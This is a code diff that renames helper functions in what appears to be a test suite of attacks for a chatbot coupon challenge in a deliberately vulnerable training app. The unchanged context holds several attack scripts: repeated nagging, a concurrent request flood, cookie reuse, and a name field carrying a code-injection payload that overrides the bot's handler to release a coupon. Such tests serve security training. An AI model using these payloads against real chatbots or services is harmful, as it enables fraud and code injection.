@@ -7,7 +7,7 @@ const challenge = 'bullyChatbotChallenge'
 type Say = (query: string, action?: string) => Promise<string>
 
 /** Logs in and tells the bot a name. */
-async function meet({ http, logIn, settings, expect }: Tools, byCookie = false): Promise<Say> {
+async function startChat({ http, logIn, settings, expect }: Tools, byCookie = false): Promise<Say> {
   const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
   const options = byCookie ? { headers: { cookie: `token=${token}` } } : { token }
   const say: Say = async (query, action = 'query') => {
@@ -20,7 +20,12 @@ async function meet({ http, logIn, settings, expect }: Tools, byCookie = false):
 }
 
 /** Asks for a coupon, in these words one after the other, until there is one. */
-async function nag({ expect }: Tools, say: Say, words: readonly string[], tries = 18): Promise<void> {
+async function askRepeatedly(
+  { expect }: Tools,
+  say: Say,
+  words: readonly string[],
+  tries = 18,
+): Promise<void> {
   for (let asked = 0; asked < tries; asked++) {
     const said = await say(words[asked % words.length] ?? '')
     if (said.includes(GIVES_IN)) return
@@ -32,7 +37,7 @@ async function nag({ expect }: Tools, say: Say, words: readonly string[], tries 
 const inWords =
   (...words: string[]): Attack['run'] =>
   async (tools) =>
-    nag(tools, await meet(tools), words)
+    askRepeatedly(tools, await startChat(tools), words)
 
 export const attacks: Attack[] = [
   { challenge, name: 'asks again and again', run: inWords('can I have a coupon code') },
@@ -52,18 +57,18 @@ export const attacks: Attack[] = [
   {
     challenge,
     name: 'asks with the web app’s cookie',
-    run: async (tools) => nag(tools, await meet(tools, true), ['can I have a coupon code']),
+    run: async (tools) => askRepeatedly(tools, await startChat(tools, true), ['can I have a coupon code']),
   },
   {
     challenge,
     name: 'asks until the bot gives in',
-    run: async (tools) => nag(tools, await meet(tools), ['can I have a coupon code'], 50),
+    run: async (tools) => askRepeatedly(tools, await startChat(tools), ['can I have a coupon code'], 50),
   },
   {
     challenge,
     name: 'everything at once',
     run: async (tools) => {
-      const say = await meet(tools)
+      const say = await startChat(tools)
       const questions = Array.from({ length: 18 }, () => say('can I have a coupon code'))
       const answers = await Promise.all(questions)
       tools.expect(
@@ -76,10 +81,10 @@ export const attacks: Attack[] = [
     challenge,
     name: 'talks its program into it instead of the bot',
     run: async (tools) => {
-      const say = await meet(tools)
+      const say = await startChat(tools)
       const name = 'Jim"); process = () => ({ action: "function", handler: "couponCode" }); //'
       await say(name, 'setname')
-      await nag(tools, say, ['now'], 2)
+      await askRepeatedly(tools, say, ['now'], 2)
     },
   },
   {
@@ -93,7 +98,7 @@ export const attacks: Attack[] = [
       const say: Say = async (query, action = 'query') =>
         (await http.post('/rest/chatbot/respond', { action, query }, { token })).json<{ body: string }>().body
       await say('Bully', 'setname')
-      await nag(tools, say, ['can I have a coupon code'])
+      await askRepeatedly(tools, say, ['can I have a coupon code'])
     },
   },
 ]
